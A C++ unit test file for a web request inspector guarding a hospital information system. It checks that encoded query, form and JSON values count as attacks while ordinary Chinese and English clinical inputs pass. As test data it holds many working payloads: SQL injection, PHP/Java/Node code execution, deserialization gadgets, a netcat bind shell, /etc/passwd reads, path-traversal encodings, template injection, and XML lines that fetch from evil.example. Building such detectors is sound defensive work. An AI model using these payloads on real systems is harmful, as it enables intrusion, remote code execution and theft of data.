// Issue #21: attack shapes the inspector was not built on (the issue's examples and variants of
// each written for this test), placed in a query value, a form field and a JSON value; and
// hospital inputs that look like them and must pass.
#include <gtest/gtest.h>

#include <string>

#include "web/inspect.h"
#include "web/request.h"

using namespace wardsec::web;

namespace {

std::string pct(const std::string& s) {
  static const char* hex = "0123456789ABCDEF";
  std::string o;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.') {
      o += static_cast<char>(c);
    } else {
      o += '%';
      o += hex[c >> 4];
      o += hex[c & 15];
    }
  }
  return o;
}

std::string json_str(const std::string& s) {
  std::string o;
  for (char c : s) {
    if (c == '"' || c == '\\') o += '\\';
    if (c == '\n') {
      o += "\\n";
      continue;
    }
    o += c;
  }
  return o;
}

// The verdicts of the value in three places.
std::vector<std::string> verdicts(Inspector& insp, const std::string& v) {
  std::string body = "{\"remark\":\"" + json_str(v) + "\"}";
  std::string form = "name=" + pct(v) + "&dept=1";
  return {insp.inspect(parse_raw("GET /api/patient/search?q=" + pct(v) + " HTTP/1.1\r\nHost: h\r\n\r\n")).verdict,
          insp.inspect(parse_raw("POST /his/register.do HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                                 "Content-Length: " +
                                 std::to_string(form.size()) + "\r\n\r\n" + form))
              .verdict,
          insp.inspect(parse_raw("POST /api/note HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: " +
                                 std::to_string(body.size()) + "\r\n\r\n" + body))
              .verdict};
}

void expect_attack(const std::vector<std::string>& values) {
  Inspector insp;
  for (const auto& v : values) {
    auto got = verdicts(insp, v);
    for (size_t i = 0; i < got.size(); i++) EXPECT_EQ(got[i], "attack") << "place " << i << ": " << v;
  }
}

}  // namespace

TEST(WebGeneralize, SqlInjectionByStructure) {
  expect_attack({"';if 1=1 drop database test-- -a", "-1 union", "(select id from users limit 1,1)", "1e0UNION SELECT 2",
                 "ascii(substring(version() from 1 for 1))", "';update users set name=cast(char(60)+char(47)+char(115) as varchar(9))--",
                 // variants
                 "(select name from patients order by 1)", "2e1union select null,null--", "ord(mid(user() from 2 for 1))",
                 " ORDER BY 12-- ", " HAVING 3=3#", " AS q WHERE 5=5 AND 7=7--", "x or 2=2 --", "select current_user;",
                 "select * from pg_roles", "exec master..xp_regread 'HKLM'", "declare @q varchar(99) set @q=0x41 exec(@q)", ") or ('k'='k",
                 "IF(12=13) SELECT 1 ELSE DROP FUNCTION f--", "' grant dba to scott; --"});
}

// libinjection's probes (2026-12-06): literal arithmetic or a variable before the SQL, a keyword
// glued to a MySQL comment, the rest of a sub-select, column-count probes, a comment that spans
// path segments. Variants written for this test.
TEST(WebGeneralize, SqlAfterArithmeticVariablesAndComments) {
  expect_attack({"@v union select 1", "7/7/**/union", "-3*2 union#x", "x' - 2*3 union select null", "2) from patients where id=5",
                 "select 2,3,4,5", "select null,null,null from dual", "9 --", "@ver--", "CASE abs(1) WHEN 1 THEN 1 ELSE 0 END",
                 "0x1 union(select 2)", "-1#\n union all select 1", "UNI/**/ON SEL/**/ECT name FROM staff", "0 union/*/**/*/select 2",
                 "5-false", "nurse\";--", "--sp_password", ";  --",
                 // constants compared, however written (libinjection's arithmetic variations)
                 "NOTE AND (5)=(6)", "x AND 2+3=4+1", "x AND cos(1)=sin(2)", "~5-(1) OR 2 = ~2", "tom''1' and (false)--",
                 "1+(pi()) and (2=pi())--", "(7)or(7)=(7)"});
  Inspector insp;
  EXPECT_EQ(insp.inspect(parse_raw("GET /api/files/1/**/union/**/select/**/1,2 HTTP/1.1\r\nHost: h\r\n\r\n")).verdict, "attack");
  EXPECT_EQ(insp.inspect(parse_raw("GET /api/files/9%20uni/**/on%20sel/**/ect%20name HTTP/1.1\r\nHost: h\r\n\r\n")).verdict, "attack");
  EXPECT_EQ(insp.inspect(parse_raw("GET /api/files/x'%20/%201%20/%201%20=' HTTP/1.1\r\nHost: h\r\n\r\n")).verdict, "attack");
  for (const char* path : {"/npm/rc-select@14.5.2/lib/index.js", "/static/multi-select@1.2/x.css", "/api/files/a*b/c,d#e",
                           "/files/O'Brien/report%202024.pdf", "/api/search/a%20b/c=d/e"})
    EXPECT_NE(insp.inspect(parse_raw(std::string("GET ") + path + " HTTP/1.1\r\nHost: h\r\n\r\n")).verdict, "attack") << path;
  for (const std::string v : {"3#楼", "门诊楼 1#-2#", "--main-color", "2024-10-01--2024-10-07", "第1--2天", "rc-select@14.5.2",
                              "2 from home where he lives", "select 1 or 2 options"})
    for (const auto& got : verdicts(insp, v)) EXPECT_NE(got, "attack") << v;
}

TEST(WebGeneralize, CodeInjectionOfEachLanguage) {
  expect_attack({"\"system\"(ls);", "<?\nphp system('id');", "$_(3)", "@{[system 'id']}", "process.mainModule.require('child_process')",
                 // variants
                 "'pass'.'thru'('whoami');", "(\"sys\".\"tem\")('uname -a')", "$_GET[a]($_GET[b])", "$f($_POST[c])", "<?= `id` ?>",
                 "O:8:\"Evil_Cls\":1:{s:3:\"cmd\";s:2:\"id\";}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
                 "#{''.getClass().forName('java.lang.Runtime')}", "%{(#r=@java.lang.Runtime@getRuntime()).exec('id')}",
                 "this.constructor.constructor('return process')().mainModule", "require('child_process').execSync('id')",
                 "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}", "cos\nsystem\n(S'id'\ntR.",
                 "!ruby/object:Gem::Installer", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="});
}

TEST(WebGeneralize, ShellBeyondSeparators) {
  expect_attack({"/etc/[p]asswd", "for /R c:\\ %i in (*.ini) do type %i", "nc -lvvp 4444 -e /bin/sh",
                 // variants (the ones with wildcards split where "??/" would spell a trigraph)
                 "cat /e?"
                 "?/p?ss??",
                 "/??"
                 "?/c?t /etc/hosts",
                 "; c'a't /etc/issue", "| w^h^o^a^m^i", "for /f \"tokens=*\" %a in ('whoami') do echo %a", "cmd.exe /c dir", "bash -c 'id'",
                 "; ca$@t /etc/group"});
}

TEST(WebGeneralize, PathsAsLenientServersReadThem) {
  expect_attack({"%e0%80%ae%e0%80%ae%e0%80%afetc%e0%80%afpasswd", "%f0%80%80%ae%f0%80%80%ae/%f0%80%80%ae%f0%80%80%ae/boot.ini",
                 "..%u2215..%u2215..%u2215etc%u2215shadow", "..0x2f..0x2f..0x2fetc0x2fhosts",
                 "..%c0%9v..%c0%9v..%c0%9vwindows%c0%9vwin.ini", "%c0.%c0./%c0.%c0./%c0.%c0./etc/group"});
}

TEST(WebGeneralize, LdapNoSqlTemplatesAndXml) {
  expect_attack({"*)(&", "admin)(uid=*))", "*))%00", "x)(|(mail=*)", "[$ne]=1", "0;return true", "{{self}}", "{{ request|attr('app') }}",
                 "{{ [].__class__.__mro__ }}", "{{ cycler.__init__ }}", "<!DOCTYPE r [<!ENTITY a \"aaaa\">]><r>&a;</r>",
                 "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\">",
                 "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<XML ID=I SRC=\"http://evil.example/x.xml\"></XML>",
                 "<set attributeName=\"xlink:href\" begin=\"0s\" to=\"//evil.example/\"/>", "{\"__proto__\":{\"isAdmin\":true}}",
                 "\\\\files.evil.example\\share\\shell.php",
                 // template probes beyond digits in braces (2026-12-06)
                 "{{6*'6'}}", "{{= 8*8 }}", "@(9*9)", "{{ settings.DATABASES }}", "{% debug %}", "$\\A{17*17*17}"});
}

TEST(WebGeneralize, HospitalInputsThatLookLikeThem) {
  Inspector insp;
  for (const std::string v : {"阿莫西林胶囊(0.25g*24粒)",
                              "患者自述 \"select\" 了错误的科室，union 医院转诊",
                              "系统(HIS)升级通知",
                              "请选择(select)科室",
                              "exec. summary: order by date desc",
                              "see /var/data/2024/report",
                              "for /R 部门 do 检查",
                              "10mg bid, 3d",
                              "O:8 床位 \"张三\"",
                              "$100 (paid)",
                              "1 union hospital",
                              "drop-off at gate 3; select window",
                              "the system (HIS) was down 10 min",
                              "备注：患者 for 复诊 /r 无",
                              "user@example.com",
                              "limit 10 per day",
                              "ORDER BY 就诊时间",
                              "进食(少量)，eval 评分 3",
                              "短信：{{patientName}} 您好，{{dept}} 门诊",
                              "(1)禁食 (2)禁水)(3)监测",
                              "Patient stable;return visit in 2 weeks",
                              "C:\\Users\\nurse\\Documents\\护理记录.docx",
                              "ping 10.20.1.1 丢包",
                              "net 收入 for 第三季度",
                              "%C4%E3%BA%C3 GBK 查询",
                              "规格(2*3)粒，联系@(010)12345"}) {
    for (const auto& got : verdicts(insp, v)) EXPECT_NE(got, "attack") << v;
  }
}

TEST(WebGeneralize, PrototypePollutionAsAKey) {
  Inspector insp;
  std::string body = R"({"profile":{"__proto__":{"isAdmin":true}}})";
  auto r = insp.inspect(parse_raw("POST /api/profile HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: " +
                                  std::to_string(body.size()) + "\r\n\r\n" + body));
  EXPECT_EQ(r.verdict, "attack");
  EXPECT_EQ(insp.inspect(parse_raw("GET /api/x?a[__proto__][isAdmin]=1 HTTP/1.1\r\nHost: h\r\n\r\n")).verdict, "attack");
  // A JSON key named like an ordinary field is not.
  std::string ok = R"({"profile":{"proto":"v2","constructor":"王芳"}})";
  EXPECT_NE(insp.inspect(parse_raw("POST /api/profile HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: " +
                                   std::to_string(ok.size()) + "\r\n\r\n" + ok))
                .verdict,
            "attack");
}
